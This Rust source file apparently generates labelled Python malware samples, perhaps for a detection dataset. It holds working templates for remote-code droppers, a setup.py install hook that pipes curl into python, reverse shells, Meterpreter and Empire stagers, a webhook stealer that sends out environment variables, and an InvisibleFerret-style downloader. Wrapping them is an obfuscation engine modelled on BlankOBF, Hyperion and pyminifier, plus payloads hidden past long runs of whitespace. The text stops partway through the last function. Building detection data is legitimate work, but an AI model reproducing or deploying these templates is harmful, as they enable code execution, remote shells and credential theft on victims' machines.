//! Python: thieves in packages, what BlankOBF, Hyperion and their like make, stagers, shells.

use super::super::{
    base64, codes, each, gzip, hex, keyed, put, quoted, rc4, reversed, rot13, xored, zlib,
};
use super::cipher::{bzip2, fernet};
use super::{
    Dice, Parts, Truth, agent, alphabet, listed, mark, mixed, places, plain, prose, veiled,
};
use std::fmt::Write;

/// An expression whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (name, value, at) = (veiled(dice), veiled(dice), veiled(dice));
    match dice.below(20) {
        0 => match dice.below(4) {
            0 => format!("__import__('base64').b64decode('{}').decode()", base64(text.as_bytes())),
            1 => {
                let _ = writeln!(before, "import base64");
                format!("base64.b64decode(b'{}').decode('utf-8')", base64(text.as_bytes()))
            }
            2 => {
                let _ = writeln!(before, "from base64 import b64decode as {name}");
                format!("{name}({name}('{}')).decode()", base64(base64(text.as_bytes()).as_bytes()))
            }
            _ => {
                let _ = writeln!(before, "import base64 as {name}");
                format!("{name}.b32decode('{}').decode()", base32(text.as_bytes()))
            }
        },
        1 => match dice.below(4) {
            0 => format!("bytes.fromhex('{}').decode()", hex(text.as_bytes())),
            1 => format!("__import__('binascii').unhexlify('{}').decode()", hex(text.as_bytes())),
            2 => format!("__import__('codecs').decode('{}', 'hex').decode()", hex(text.as_bytes())),
            _ => format!(
                "bytearray.fromhex(\"{}\").decode('ascii')",
                each(text, " ", |it| format!("{it:02X}"))
            ),
        },
        2 => format!(
            "__import__('codecs').decode('{}', '{}')",
            rot13(text),
            dice.pick(&["rot13", "rot_13", "rot-13"])
        ),
        3 => match dice.below(4) {
            0 => format!("''.join(chr({at}) for {at} in [{}])", codes(text.bytes(), ", ")),
            1 => format!("''.join(map(chr, [{}]))", codes(text.bytes(), ",")),
            2 => each(text, "+", |it| format!("chr({it})")),
            _ => {
                let key = dice.key();
                format!(
                    "''.join([chr({at} ^ {key}) for {at} in ({})])",
                    codes(xored(text, key), ",")
                )
            }
        },
        4 => format!("'{}'[::-1]", reversed(text)),
        5 => format!(
            "__import__('zlib').decompress(__import__('base64').b64decode('{}')).decode()",
            base64(&zlib(text.as_bytes()))
        ),
        6 => {
            // BlankOBF and all that took it over.
            let form = dice.pick(&[
                "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));",
                "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))",
            ]);
            let _ = writeln!(before, "{form}");
            format!("(_)(b'{}').decode()", reversed(&base64(&zlib(text.as_bytes()))))
        }
        7 => {
            let mark = mark(dice, text, &["#", "ZX", "_K_", "@", "~", "!!", "%%"]);
            let littered = dice.littered(text, &mark);
            if dice.chance(50) {
                format!("'{littered}'.replace('{mark}', '')")
            } else {
                format!("''.join('{littered}'.split('{mark}'))")
            }
        }
        8 if plain(text) => {
            let letters = alphabet(dice);
            let other = dice.shuffled(&letters);
            let turned: String =
                places(text, &letters).iter().map(|it| char::from(other.as_bytes()[*it])).collect();
            format!("'{turned}'.translate(str.maketrans('{other}', '{letters}'))")
        }
        9 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            match dice.below(4) {
                0 => {
                    let place =
                        |at: usize| order.iter().position(|it| *it == at).unwrap_or_default();
                    let template: String =
                        (0..pieces.len()).map(|at| format!("{{{}}}", place(at))).collect();
                    let list: Vec<String> =
                        order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
                    format!("'{template}'.format({})", list.join(", "))
                }
                1 => format!(
                    "'{}' % ({},)",
                    "%s".repeat(pieces.len()),
                    quoted(&pieces, '\'').join(", ")
                ),
                2 => {
                    let names: Vec<String> = pieces.iter().map(|_| veiled(dice)).collect();
                    for at in order {
                        let _ = writeln!(before, "{} = '{}'", names[at], pieces[at]);
                    }
                    format!("f'{}'", names.iter().map(|it| format!("{{{it}}}")).collect::<String>())
                }
                _ => {
                    let _ = writeln!(
                        before,
                        "{name} = [{}]",
                        order
                            .iter()
                            .map(|at| format!("({at}, '{}')", pieces[*at]))
                            .collect::<Vec<_>>()
                            .join(", ")
                    );
                    format!("''.join({at}[1] for {at} in sorted({name}))")
                }
            }
        }
        10 => match dice.below(3) {
            0 => format!("bytes([{}]).decode()", codes(text.bytes(), ", ")),
            1 => format!("bytearray(({})).decode('ascii')", codes(text.bytes(), ",")),
            _ => format!(
                "str(bytes([{at} - 7 for {at} in b'{}']), 'utf-8')",
                each(text, "", |it| format!("\\x{:02x}", it + 7))
            ),
        },
        11 => match dice.below(3) {
            0 => format!("\"{}\"", each(text, "", |it| format!("\\x{it:02x}"))),
            1 => format!("'{}'", each(text, "", |it| format!("\\u{it:04x}"))),
            _ => format!(
                "b'{}'.decode('unicode_escape')",
                each(text, "", |it| format!("\\\\x{it:02x}"))
            ),
        },
        12 => {
            let number = hex(text.as_bytes());
            format!("(0x{number}).to_bytes({}, 'big').decode()", text.len())
        }
        13 => {
            let word = dice.name();
            match dice.below(3) {
                0 => {
                    let _ = writeln!(before, "from itertools import cycle as {name}");
                    format!(
                        "bytes({value} ^ {at} for {value}, {at} in zip(bytes.fromhex('{}'), {name}(b'{word}'))).decode()",
                        hex(&keyed(text, &word))
                    )
                }
                1 => {
                    let _ = writeln!(
                        before,
                        "def {name}({value}, k):\n    {at} = __import__('base64').b64decode({value})\n    return ''.join([chr(c ^ ord(k[i % len(k)])) for i, c in enumerate({at})])"
                    );
                    format!("{name}('{}', '{word}')", base64(&keyed(text, &word)))
                }
                _ => {
                    let _ = writeln!(
                        before,
                        "{name} = [{}]\n{value} = '{word}'\n{at} = ''\nfor i in range(len({name})):\n    {at} += chr({name}[i] ^ ord({value}[i % len({value})]))",
                        codes(keyed(text, &word), ", ")
                    );
                    at
                }
            }
        }
        14 => {
            let word = dice.name();
            let _ = writeln!(
                before,
                "def {name}(data, key):\n    s, j, out = list(range(256)), 0, bytearray()\n    for i in range(256):\n        j = (j + s[i] + key[i % len(key)]) % 256\n        s[i], s[j] = s[j], s[i]\n    i = j = 0\n    for b in data:\n        i = (i + 1) % 256\n        j = (j + s[i]) % 256\n        s[i], s[j] = s[j], s[i]\n        out.append(b ^ s[(s[i] + s[j]) % 256])\n    return bytes(out)"
            );
            format!(
                "{name}(bytes.fromhex('{}'), b'{word}').decode()",
                hex(&rc4(text.as_bytes(), &word))
            )
        }
        15 if plain(text) => {
            let letters = alphabet(dice);
            let _ = writeln!(before, "{name} = '{letters}'");
            match dice.below(2) {
                0 => format!(
                    "''.join([{name}[{at}] for {at} in [{}]])",
                    listed(places(text, &letters), ", ")
                ),
                _ => places(text, &letters)
                    .iter()
                    .map(|it| format!("{name}[{it}]"))
                    .collect::<Vec<_>>()
                    .join("+"),
            }
        }
        16 => {
            // Names of functions are looked up, as Hyperion does.
            let _ = writeln!(
                before,
                "{name} = getattr(__import__('{}'[::-1]), '{}'[::-1])",
                reversed("base64"),
                reversed("b64decode")
            );
            let _ = writeln!(before, "{value} = lambda {at}: {name}({at}).decode()");
            format!("{value}('{}')", base64(text.as_bytes()))
        }
        17 => match dice.below(2) {
            0 => format!(
                "__import__('gzip').decompress(__import__('base64').b64decode('{}')).decode()",
                base64(&gzip(text.as_bytes()))
            ),
            _ => format!(
                "__import__('bz2').decompress(bytes.fromhex('{}')).decode()",
                hex(&bzip2(text.as_bytes()))
            ),
        },
        18 => {
            // pyminifier renames everything to what is no Latin letter.
            let names = ["ﺡ", "ﺝ", "ڪ", "ﻏ", "ﻃ", "ﺹ", "ﮊ", "ﻍ"];
            let (one, other) = (names[dice.below(4)], names[4 + dice.below(4)]);
            let (one, other) =
                (format!("{one}{}", dice.below(99)), format!("{other}{}", dice.below(99)));
            let _ = writeln!(before, "import base64 as {one}\n{other}={one}.b64decode");
            format!("{other}('{}').decode()", base64(text.as_bytes()))
        }
        _ => format!(
            "eval(compile('{}', '<string>', 'eval'))",
            each(text, "+", |it| format!("chr({it})"))
        ),
    }
}

fn base32(bytes: &[u8]) -> String {
    let bits: String = bytes.iter().map(|it| format!("{it:08b}")).collect();
    let mut out: String = super::lines(&bits, 5)
        .iter()
        .map(|it| {
            let digit = usize::from_str_radix(&format!("{it:0<5}"), 2).unwrap_or_default();
            char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[digit])
        })
        .collect();
    while !out.len().is_multiple_of(8) {
        out.push('=');
    }
    out
}

fn junk(dice: &mut Dice) -> String {
    let mut out = String::new();
    for _ in 0..dice.below(5) {
        let (name, number) = (veiled(dice), dice.below(9000));
        let text = prose(dice, 5);
        let _ = match dice.below(5) {
            0 => writeln!(out, "# {text}"),
            1 => writeln!(out, "{name} = {number}"),
            2 => writeln!(out, "{name} = '{text}'"),
            3 => writeln!(out, "def {name}(a, b=2):\n    return a * b + {number}"),
            _ => writeln!(out, "class {name}:\n    def __init__(self):\n        self.v = {number}"),
        };
    }
    out
}

fn address(dice: &mut Dice, url: &str, before: &mut String) -> String {
    let word = if dice.chance(85) { hide(dice, url, before) } else { format!("'{url}'") };
    before.push_str(&junk(dice));
    if dice.chance(60) {
        let name = veiled(dice);
        let _ = writeln!(before, "{name} = {word}");
        name
    } else {
        format!("({word})")
    }
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(17) {
        0 => opened(dice, truth),
        1 => requested(dice, truth),
        2 => package(dice, truth),
        3 => reverse(dice, truth),
        4 => stager(dice, truth),
        5 => web_delivery(dice, truth),
        6 => command(dice, truth),
        7 => layers(dice, truth),
        8 => to_the_right(dice, truth),
        9 => thief(dice, truth),
        10 => interview(dice, truth),
        11 => low_level(dice, truth),
        12 => platforms(dice, truth),
        13 => threads(dice, truth),
        14 => classes(dice, truth),
        15 => token(dice, truth),
        _ => several(dice, truth),
    }
}

/// The standard library's client.
fn opened(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".py", ".txt", ".exe"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "import urllib.request\nexec(urllib.request.urlopen(@URL@).read())\n",
        "from urllib.request import Request, urlopen\n@NAME@ = Request(@URL@, headers={'User-Agent': '@AGENT@'})\nexec(urlopen(@NAME@, timeout=10).read().decode('utf-8'))\n",
        "import urllib.request as r, os, tempfile, subprocess\n@NAME@ = os.path.join(tempfile.gettempdir(), '@FILE@.exe')\nr.urlretrieve(@URL@, @NAME@)\nsubprocess.Popen(@NAME@, shell=True)\n",
        "import ssl, urllib.request\nctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n@NAME@ = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx))\n@NAME@.addheaders = [('User-Agent', '@AGENT@')]\nexec(compile(@NAME@.open(@URL@).read(), '<string>', 'exec'))\n",
        "__import__('builtins').exec(__import__('urllib.request', fromlist=['urlopen']).urlopen(@URL@).read())\n",
        "try:\n    import urllib.request as u\nexcept ImportError:\n    import urllib2 as u\n@NAME@ = u.urlopen(@URL@)\neval(compile(@NAME@.read(), '@FILE@', 'exec'))\n",
    ]);
    out + &put(form, &[("URL", &word), ("NAME", &name), ("AGENT", agent(dice)), ("FILE", &file)])
}

/// requests.
fn requested(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".py", ".zip", "/raw"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "import requests\nexec(requests.get(@URL@).text)\n",
        "import requests, os, subprocess\n@NAME@ = requests.get(@URL@, headers={'User-Agent': '@AGENT@'}, verify=False, timeout=20)\npath = os.path.join(os.getenv('TEMP') or '/tmp', '@FILE@.exe')\nwith open(path, 'wb') as f:\n    f.write(@NAME@.content)\nsubprocess.call('echo ' + path, shell=True)\n",
        "from requests import session as @NAME@\ns = @NAME@()\ns.headers.update({'User-Agent': '@AGENT@'})\neval(compile(s.get(@URL@).content, '<s>', 'exec'))\n",
        "import requests\n@NAME@ = getattr(requests, 'g' + 'et')\nexec(@NAME@(@URL@, allow_redirects=True).content)\n",
        "import importlib\n@NAME@ = importlib.import_module('re' + 'quests')\nr = @NAME@.request('GET', @URL@, stream=True)\nwith open('/tmp/@FILE@', 'wb') as out:\n    for chunk in r.iter_content(8192):\n        out.write(chunk)\n",
    ]);
    out + &put(form, &[("URL", &word), ("NAME", &name), ("AGENT", agent(dice)), ("FILE", &file)])
}

/// A package does it when it is installed.
fn package(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::from(
        "from setuptools import setup, find_packages\nfrom setuptools.command.install import install\nimport os\n\nVERSION = '0.0.4'\nDESCRIPTION = 'Simple helpers for colors in terminals'\n\n",
    );
    let url = truth.url(dice, &["", ".py", "/inject"]);
    let word = hide(dice, &url, &mut out);
    let (name, module) = (mixed(dice, 6), dice.name());
    out.push_str(&put(
        "\n\nclass @NAME@(install):\n    def run(self):\n        install.run(self)\n        if True:\n            @BODY@\n\n\nsetup(\n    name='@MODULE@',\n    version=VERSION,\n    author='@MODULE@',\n    description=DESCRIPTION,\n    packages=find_packages(),\n    install_requires=[],\n    cmdclass={'install': @NAME@},\n)\n",
        &[
            ("NAME", &name),
            (
                "BODY",
                dice.pick(&[
                    "import urllib.request\n            exec(urllib.request.urlopen(@URL@).read())",
                    "try:\n                import requests\n                exec(requests.get(@URL@).text.replace('\\r', ''))\n            except Exception:\n                pass",
                    "os.system('curl -s ' + @URL@ + ' | python3 -')",
                    "from http import client\n            import platform, json\n            import urllib.request as u\n            u.urlopen(u.Request(@URL@, data=json.dumps({'n': platform.node(), 'c': os.getcwd()}).encode()))",
                ]),
            ),
            ("URL", &word),
            ("MODULE", &module),
        ],
    ));
    out
}

/// Shells that connect back.
fn reverse(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::new();
    let (host, port) = truth.endpoint(dice);
    let host = if dice.chance(60) { hide(dice, &host, &mut out) } else { format!("\"{host}\"") };
    let name = veiled(dice);
    let form = dice.pick(&[
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((@HOST@,@PORT@));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);\n",
        "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((@HOST@,@PORT@));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")\n",
        "import socket, subprocess, threading\n@NAME@ = (@HOST@, @PORT@)\ns = socket.create_connection(@NAME@, timeout=30)\np = subprocess.Popen(['sh', '-i'], shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)\ndef s2p(s, p):\n    while True:\n        data = s.recv(1024)\n        if len(data) > 0:\n            p.stdin.write(data)\n            p.stdin.flush()\nt = threading.Thread(target=s2p, args=[s, p])\nt.daemon = True\nt.start()\n",
        "import asyncio\n@NAME@ = @HOST@\nasync def main():\n    reader, writer = await asyncio.open_connection(@NAME@, @PORT@)\n    while True:\n        line = await reader.readline()\n        if not line:\n            break\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        writer.write((await p.communicate())[0])\nasyncio.run(main())\n",
        "import socket, os, time\nclass @NAME@:\n    HOST = @HOST@\n    PORT = @PORT@\n    def __init__(self):\n        self.s = socket.socket()\n    def go(self):\n        self.s.connect((self.HOST, self.PORT))\n        self.s.send(os.getcwd().encode())\n        while True:\n            c = self.s.recv(2048).decode()\n            if not c or c == 'quit':\n                break\n            self.s.send(os.popen(c).read().encode())\n@NAME@().go()\n",
        "a=__import__;s=a(\"socket\");o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s.socket(s.AF_INET,s.SOCK_STREAM);c.connect((@HOST@,@PORT@));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")\n",
    ]);
    out + &put(form, &[("HOST", &host), ("PORT", &port.to_string()), ("NAME", &name)])
}

/// Meterpreter's.
fn stager(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = if dice.chance(60) {
        let (host, port) = truth.endpoint(dice);
        format!(
            "import socket,zlib,base64,struct,time\nfor x in range(10):\n\ttry:\n\t\ts=socket.socket(2,socket.SOCK_STREAM)\n\t\ts.connect(('{host}',{port}))\n\t\tbreak\n\texcept:\n\t\ttime.sleep(5)\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n\td+=s.recv(l-len(d))\nexec(zlib.decompress(base64.b64decode(d)),{{'s':s}})\n"
        )
    } else {
        let origin = Truth::origin(dice);
        let path = format!("/{}_{}", mixed(dice, 20), mixed(dice, 8));
        truth.joined(&origin, &path);
        format!(
            "import zlib,base64,sys\nvi=sys.version_info\nul=__import__({{2:'urllib2',3:'urllib.request'}}[vi[0]],fromlist=['build_opener'])\nhs=[]\no=ul.build_opener(*hs)\no.addheaders=[('User-Agent','{}')]\nexec(zlib.decompress(base64.b64decode(o.open('{origin}{path}').read())))\n",
            agent(dice)
        )
    };
    let packed = base64(inner.as_bytes());
    match dice.below(4) {
        0 => format!(
            "exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{packed}')[0]))\n"
        ),
        1 => format!(
            "exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{}')[0])))\n",
            base64(&zlib(inner.as_bytes()))
        ),
        2 => format!(
            "import base64,sys;exec(base64.b64decode({{2:str,3:lambda b:bytes(b,'UTF-8')}}[sys.version_info[0]]('{packed}')))\n"
        ),
        _ => inner,
    }
}

/// web_delivery's and Empire's one-liners.
fn web_delivery(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", "/news.php"]);
    let form = dice.pick(&[
        "import sys;import ssl;u=__import__('urllib'+{2:'',3:'.request'}[sys.version_info[0]],fromlist=('urlopen',));r=u.urlopen('@URL@', context=ssl._create_unverified_context());exec(r.read());\n",
        "import sys;u=__import__('urllib'+{2:'',3:'.request'}[sys.version_info[0]],fromlist=('urlopen',));r=u.urlopen('@URL@');exec(r.read());\n",
        "import re,subprocess;cmd='ps -ef | grep Little\\ Snitch | grep -v grep'\nps = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)\nout, err = ps.communicate()\nif re.search('Little Snitch', out.decode('UTF-8')):\n    raise SystemExit\nimport urllib.request\nUA='@AGENT@';server='@ORIGIN@';t='@PATH@';req=urllib.request.Request(server+t)\nproxy = urllib.request.ProxyHandler()\no = urllib.request.build_opener(proxy)\no.addheaders=[('User-Agent',UA), ('Cookie', 'session=c2Vzc2lvbg==')]\nurllib.request.install_opener(o)\na=urllib.request.urlopen(req).read()\nexec(a)\n",
    ]);
    let parts = Parts::of(&url);
    let inner = put(
        form,
        &[
            ("URL", &url),
            ("AGENT", agent(dice)),
            ("ORIGIN", &parts.origin()),
            ("PATH", &parts.path),
        ],
    );
    if dice.chance(40) {
        format!("import base64,sys\nexec(base64.b64decode('{}'))\n", base64(inner.as_bytes()))
    } else {
        inner
    }
}

/// A command of the machine.
fn command(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".sh", ".exe"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "import os\nos.system('curl -fsSL ' + @URL@ + ' | bash')\n",
        "import subprocess\nsubprocess.run(['curl', '-s', '-o', '/tmp/@FILE@', @URL@])\nsubprocess.Popen(['sh', '/tmp/@FILE@'])\n",
        "import subprocess as @NAME@\n@NAME@.Popen('wget -qO- {} | sh'.format(@URL@), shell=True, stdout=@NAME@.DEVNULL, stderr=@NAME@.DEVNULL)\n",
        "import os\n@NAME@ = @URL@\nos.popen(f'curl -sk {@NAME@} -o /tmp/@FILE@ && chmod +x /tmp/@FILE@ && /tmp/@FILE@').read()\n",
        "__import__('os').system(\"curl -s '%s' | python3 -\" % @URL@)\n",
        "getattr(__import__('subprocess'), 'get' + 'output')('wget -q ' + @URL@ + ' -O /tmp/.@FILE@; sh /tmp/.@FILE@')\n",
    ]);
    out + &put(form, &[("URL", &word), ("NAME", &name), ("FILE", &file)])
}

/// A script in one more layer.
fn wrapped(dice: &mut Dice, inner: &str) -> String {
    let (name, key) = (veiled(dice), dice.key());
    match dice.below(8) {
        0 => format!(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
            reversed(&base64(&zlib(inner.as_bytes())))
        ),
        1 => format!("import base64\nexec(base64.b64decode('{}'))\n", base64(inner.as_bytes())),
        2 => format!("exec(bytes.fromhex('{}').decode())\n", hex(inner.as_bytes())),
        3 => format!(
            "{name} = [{}]\nexec(''.join(chr(c ^ {key}) for c in {name}))\n",
            listed(inner.chars().map(|it| it as usize ^ usize::from(key)), ",")
        ),
        4 => {
            let packed = base64(inner.as_bytes());
            let pieces = super::lines(&packed, packed.len() / 4 + 1);
            let turned: String = rot13(&pieces[1]);
            let back = pieces.get(2).map(|it| reversed(it)).unwrap_or_default();
            let last = pieces.get(3).cloned().unwrap_or_default();
            format!(
                "import base64, codecs\nmagic = '{}'\nlove = '{turned}'\ngod = '{back}'\ndestiny = '{last}'\njoy = 'rot13'\ntrust = eval('magic') + eval('codecs.decode(love, joy)') + eval('god[::-1]') + eval('destiny')\neval(compile(base64.b64decode(eval('trust')), '<string>', 'exec'))\n",
                pieces[0]
            )
        }
        5 => format!(
            "import zlib, base64\nexec(compile(zlib.decompress(base64.b64decode(b'{}')), '{name}', 'exec'))\n",
            base64(&zlib(inner.as_bytes()))
        ),
        6 => format!(
            "import bz2, base64\nexec(bz2.decompress(base64.b64decode('{}')))\n",
            base64(&bzip2(inner.as_bytes()))
        ),
        _ => {
            let lines: String = super::lines(&base64(inner.as_bytes()), 76)
                .iter()
                .map(|it| format!("    '{it}'\n"))
                .collect();
            format!(
                "{name} = (\n{lines})\n__import__('builtins').__dict__['exec'](__import__('base64').b64decode({name}))\n"
            )
        }
    }
}

fn layers(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = match dice.below(4) {
        0 => requested(dice, truth),
        1 => command(dice, truth),
        2 => reverse(dice, truth),
        _ => opened(dice, truth),
    };
    for _ in 0..1 + dice.below(3) {
        inner = wrapped(dice, &inner);
    }
    inner
}

/// Far to the right of a line that looks harmless.
fn to_the_right(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".py"]);
    let line = put(
        dice.pick(&[
            "import urllib.request;exec(urllib.request.urlopen('@URL@').read())",
            "import requests;exec(requests.get('@URL@').text)",
            "__import__('os').system('curl -s @URL@ | sh')",
        ]),
        &[("URL", &url)],
    );
    let line = if dice.chance(60) {
        format!("exec(__import__('base64').b64decode('{}'))", base64(line.as_bytes()))
    } else {
        line
    };
    let spaces = " ".repeat(150 + dice.below(300));
    let text = prose(dice, 6);
    format!(
        "\"\"\"{text}.\"\"\"\nimport sys\nimport os\nimport json{spaces};{line}\n\n__all__ = ['load', 'dump']\n\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n\n\ndef dump(value, path):\n    with open(path, 'w') as f:\n        json.dump(value, f)\n"
    )
}

/// Passwords and cookies are taken together, then sent to a hook.
fn thief(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::from(
        "import os\nimport re\nimport json\nimport platform\nimport urllib.request\n\n",
    );
    let url = truth.url(dice, &["", "/api/webhooks", "/upload"]);
    let word = hide(dice, &url, &mut out);
    let (hook, class) = (veiled(dice), mixed(dice, 6));
    out + &put(
        dice.pick(&[
            "@HOOK@ = @URL@\nPATHS = {\n    'Chrome': os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data'),\n    'Brave': os.path.join(os.getenv('LOCALAPPDATA', ''), 'BraveSoftware', 'Brave-Browser', 'User Data'),\n}\n\n\nclass @CLASS@:\n    def __init__(self):\n        self.found = []\n        for name, path in PATHS.items():\n            if os.path.isdir(path):\n                self.found.append(name)\n        self.send()\n\n    def send(self):\n        data = {'username': 'grabber', 'embeds': [{'title': platform.node(), 'description': '\\n'.join(self.found) or 'none'}]}\n        req = urllib.request.Request(@HOOK@, data=json.dumps(data).encode(), headers={'Content-Type': 'application/json', 'User-Agent': '@AGENT@'})\n        try:\n            urllib.request.urlopen(req)\n        except Exception:\n            pass\n\n\nif __name__ == '__main__':\n    @CLASS@()\n",
            "@HOOK@ = @URL@\ndef @CLASS@():\n    import requests\n    info = {'user': os.environ.get('USER'), 'host': platform.node(), 'env': dict(os.environ)}\n    try:\n        requests.post(@HOOK@, json=info, timeout=5)\n    except Exception:\n        pass\n@CLASS@()\n",
            "def @CLASS@(hook):\n    body = json.dumps({'content': '```' + platform.platform() + '```'}).encode()\n    urllib.request.urlopen(urllib.request.Request(hook, body, {'Content-Type': 'application/json'}))\n@HOOK@ = @URL@\ntry:\n    @CLASS@(@HOOK@)\nexcept Exception as e:\n    print(e)\n",
        ]),
        &[("HOOK", &hook), ("URL", &word), ("CLASS", &class), ("AGENT", agent(dice))],
    )
}

/// InvisibleFerret: a host whose halves changed places, files by names.
fn interview(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), 1224 + dice.below(3));
    let (kind, group) = (dice.below(90) + 10, dice.name());
    let origin = format!("http://{host}:{port}");
    let payload = format!("/payload/{kind}/{group}");
    truth.joined(&origin, &payload);
    let second = dice.chance(60);
    if second {
        truth.joined(&origin, &format!("/brow/{kind}/{group}"));
    }
    let packed = base64(host.as_bytes());
    let at = packed.len() / 2;
    let (front, back) = packed.split_at(at);
    let mut out = put(
        "sType = '@KIND@'\ngType = '@GROUP@'\nimport base64,platform,os,subprocess,sys\ntry:import requests\nexcept:subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests']);import requests\n\not = platform.system()\nhome = os.path.expanduser('~')\nhost='@BACK@@FRONT@';hn=base64.b64decode(host[@LENGTH@:]+host[:@LENGTH@]).decode()\nhost2 = f'http://{hn}:@PORT@'\npd = os.path.join(home, '.n2')\nap = pd + '/pay'\ndef download_payload():\n    if os.path.exists(ap):\n        try:os.remove(ap)\n        except OSError:return True\n    try:\n        if not os.path.exists(pd):os.makedirs(pd)\n    except:pass\n    try:\n        aa = requests.get(host2+'/payload/'+sType+'/'+gType, allow_redirects=True)\n        with open(ap, 'wb') as f:f.write(aa.content)\n        return True\n    except Exception as e:return False\nres=download_payload()\nif res:\n    subprocess.Popen([sys.executable, ap], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        &[
            ("KIND", &kind.to_string()),
            ("GROUP", &group),
            ("BACK", back),
            ("FRONT", front),
            ("LENGTH", &back.len().to_string()),
            ("PORT", &port.to_string()),
        ],
    );
    if second {
        out.push_str("\nap = pd + '/bow'\ndef download_browse():\n    try:\n        aa = requests.get(host2+'/brow/'+ sType +'/'+gType, allow_redirects=True)\n        with open(ap, 'wb') as f:f.write(aa.content)\n        return True\n    except Exception as e:return False\nres=download_browse()\n");
    }
    if dice.chance(50) { wrapped(dice, &out) } else { out }
}

/// http.client, httpx, raw sockets of which host and port are told.
fn low_level(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".py", ".bin"]);
    let parts = Parts::of(&url);
    let host = hide(dice, &parts.host, &mut out);
    let path = if dice.chance(40) {
        hide(dice, &parts.path, &mut out)
    } else {
        format!("'{}'", parts.path)
    };
    let class = if parts.scheme == "https" { "HTTPSConnection" } else { "HTTPConnection" };
    let port = parts.port.map_or(String::new(), |it| format!(", {it}"));
    let named = parts.port.map_or(String::new(), |it| format!(", port={it}"));
    let name = veiled(dice);
    let form = dice.pick(&[
        "import http.client\n@NAME@ = http.client.@CLASS@(@HOST@@PORT@)\n@NAME@.request('GET', @PATH@, headers={'User-Agent': '@AGENT@'})\nexec(@NAME@.getresponse().read())\n",
        "from http.client import @CLASS@ as @NAME@\nc = @NAME@(@HOST@@NAMED@, timeout=15)\nc.request('POST', @PATH@, 'id=1')\nr = c.getresponse()\nif r.status == 200:\n    exec(r.read().decode())\nc.close()\n",
        "import urllib.request\n@NAME@ = {'h': @HOST@, 'p': @PATH@}\nexec(urllib.request.urlopen('@SCHEME@://%(h)s@COLON@%(p)s' % @NAME@).read())\n",
    ]);
    let colon = parts.port.map_or(String::new(), |it| format!(":{it}"));
    out + &put(
        form,
        &[
            ("NAME", &name),
            ("CLASS", class),
            ("HOST", &host),
            ("PORT", &port),
            ("NAMED", &named),
            ("PATH", &path),
            ("AGENT", agent(dice)),
            ("SCHEME", &parts.scheme),
            ("COLON", &colon),
        ],
    )
}

/// Another file for each system, which a table has.
fn platforms(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::from("import os, platform, subprocess, tempfile, urllib.request\n");
    let url = truth.url(dice, &["", "/update"]);
    let word = hide(dice, &url, &mut out);
    let (name, file) = (veiled(dice), dice.name());
    out + &put(
        dice.pick(&[
            "@NAME@ = @URL@\ndef main():\n    ext = '.exe' if platform.system() == 'Windows' else ''\n    path = os.path.join(tempfile.gettempdir(), '@FILE@' + ext)\n    with urllib.request.urlopen(@NAME@) as r, open(path, 'wb') as f:\n        f.write(r.read())\n    if os.name == 'nt':\n        subprocess.Popen([path], creationflags=0x08000000)\n    else:\n        os.chmod(path, 0o755)\n        subprocess.Popen(['sh', path], start_new_session=True)\nmain()\n",
